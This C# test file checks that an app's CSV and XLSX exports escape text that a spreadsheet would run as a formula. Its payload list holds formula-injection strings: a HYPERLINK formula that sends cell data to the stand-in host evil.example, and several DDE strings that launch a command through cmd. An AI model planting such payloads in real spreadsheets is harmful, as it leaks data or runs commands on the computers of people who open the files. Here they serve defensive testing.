using System.Globalization;
using System.IO.Compression;
using System.Text;
using CsvHelper;
using MiniExcelLibs;
using Oversight.Core.Funding.OpenData;
using Oversight.Core.Performance.Judgements;
using Oversight.Core.Performance.Reports;
using Oversight.Core.Performance.Sharing;
using Oversight.Core.Performance.Submissions;
using Oversight.Core.Spreadsheets;
using Oversight.Domain.Performance;
using Oversight.Domain.Performance.Spc;
using Oversight.Domain.Plan;
using Oversight.Web.Api;

namespace Oversight.Web.Tests.Reporting;

/// Every CSV and XLSX the app writes, fed text that a spreadsheet would run as a formula: no cell may start with a
/// formula character unless it is a real number, and no workbook may hold a formula.
public sealed class FormulaInjectionTests
{
    public static readonly TheoryData<string> Payloads =
    [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void ThreeSixtyGivingCsvAndXlsx_ATitleThatIsAFormula_IsText(string payload)
    {
        var grants = new[] { Grant(payload) };

        AssertCsvSafe(ThreeSixtyGivingSheet.Csv(grants), payload);
        AssertXlsxSafe(ThreeSixtyGivingSheet.Xlsx(grants, new PackageInfo(payload, payload, DateTimeOffset.UnixEpoch, payload, "GB-GOR-X")), payload);
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public void PerformanceOpenDataAndReportWorkbook_AMeasureNamedAsAFormula_IsText(string payload)
    {
        var compared = new ComparisonSnapshot(payload, payload, payload, false, 1.5, 2.5, 2, 1, 3, payload, payload);
        var measure = new MeasureSnapshot("m", payload, MeasureUnit.Percentage, -1.5, payload, SpcVariation.CommonCause, null, payload, [Point(payload, -1.5)], Comparison: compared);
        var theme = new ThemeSnapshot("t", 1, payload, payload, null, null, payload, [measure]);
        var snapshot = new ReportSnapshot(payload, payload, [theme]);

        AssertCsvSafe(OpenData.Csv(OpenData.Rows(snapshot)), payload);
        var cover = new ReportCover(payload, payload, payload, "2024-25 Q4", 1, ReportStatus.Published, null, null);
        AssertXlsxSafe(PerformanceReportXlsx.Write(new ReportDocument(cover, [theme], ReportAudience.Office)), payload);
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public void SeriesAndPartnershipCsv_APeriodOrNameThatIsAFormula_IsText(string payload)
    {
        var measure = new Measure("m", payload, payload, MeasureUnit.Count, MeasureFrequency.Monthly, ImprovementDirection.Decrease, MeasureSource.PoliceOpenData, payload);
        var chart = new SpcResult([Point(payload, -4)], [], null, null, default);
        var judgement = new MeasureJudgement(measure, payload, [], chart, null);

        AssertCsvSafe(SeriesCsv.Write(chart), payload);
        AssertCsvSafe(PartnershipCsv.Write([new RangeSeries(measure, new PerformanceTheme("t", 1, payload, payload, [measure]), payload, judgement, chart.Points)]), payload);
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public void UploadTemplates_AnAreaOrMeasureNamedAsAFormula_IsText(string payload)
    {
        var measure = new Measure("m", payload, payload, MeasureUnit.Count, MeasureFrequency.Monthly, ImprovementDirection.Decrease, MeasureSource.Partner, payload);

        AssertCsvSafe(UploadTemplate.Csv(measure, [payload], new DateOnly(2025, 4, 1)), payload);
        AssertXlsxSafe(UploadTemplate.Xlsx(measure, [payload], new DateOnly(2025, 4, 1)), payload);
    }

    [Fact]
    public void Csv_NumbersStayNumbers_AndTextIsQuotedOnlyWhereItMustBe()
    {
        var csv = Encoding.UTF8.GetString(SpreadsheetWriter.Csv(new Sheet("s", ["a", "b", "c", "d", "e"], [["-3.5", -3.5, -12m, "a,\"b\"", null]])));

        Assert.Equal("\uFEFFa,b,c,d,e\r\n'-3.5,-3.5,-12,\"a,\"\"b\"\"\",\r\n", csv);
    }

    [Fact]
    public void Xlsx_ANegativeNumberIsANumberCell()
    {
        var xlsx = SpreadsheetWriter.Xlsx([new Sheet("s", ["n"], [[-3.5]])]);

        var row = (IDictionary<string, object?>)new MemoryStream(xlsx).Query(useHeaderRow: true).Single();
        Assert.Equal(-3.5, row["n"]);
    }

    private static SpcPoint Point(string period, double value) => new(period, value, value, value - 1, value + 1, SpcVariation.CommonCause, SpcRules.None, 0);

    private static ThreeSixtyGivingGrant Grant(string text) => new(
        "360G-x-1", text, text, 100m, -5m, new DateOnly(2024, 5, 1), text, text, text, text, text, text, text, text, text, text, text);

    private static void AssertCsvSafe(byte[] content, string payload)
    {
        using var reader = new CsvReader(new StreamReader(new MemoryStream(content)), CultureInfo.InvariantCulture);
        var cells = new List<string>();
        while (reader.Read())
        {
            for (var i = 0; reader.TryGetField<string>(i, out var cell); i++)
            {
                cells.Add(cell!);
            }
        }

        Assert.Contains("'" + payload, cells);
        Assert.All(cells, AssertNotAFormula);
    }

    private static void AssertXlsxSafe(byte[] content, string payload)
    {
        using var stream = new MemoryStream(content);
        var cells = stream.GetSheetNames()
            .SelectMany(sheet => stream.Query(sheetName: sheet).Cast<IDictionary<string, object?>>())
            .SelectMany(row => row.Values)
            .ToList();
        Assert.Contains("'" + payload, cells.OfType<string>().Select(c => c.ReplaceLineEndings("\r")));
        Assert.All(cells.OfType<string>(), AssertNotAFormula);
        using var zip = new ZipArchive(new MemoryStream(content));
        foreach (var entry in zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal)))
        {
            using var xml = new StreamReader(entry.Open());
            Assert.DoesNotMatch("<(x:)?f[ >]", xml.ReadToEnd());
        }
    }

    // A real number may begin with "-"; text never begins with a character that starts a formula.
    private static void AssertNotAFormula(string cell) =>
        Assert.True(
            cell.Length == 0 || "=+-@\t\r".IndexOf(cell[0], StringComparison.Ordinal) < 0 || double.TryParse(cell, NumberStyles.Float, CultureInfo.InvariantCulture, out _),
            $"The cell \"{cell}\" would be run as a formula");
}
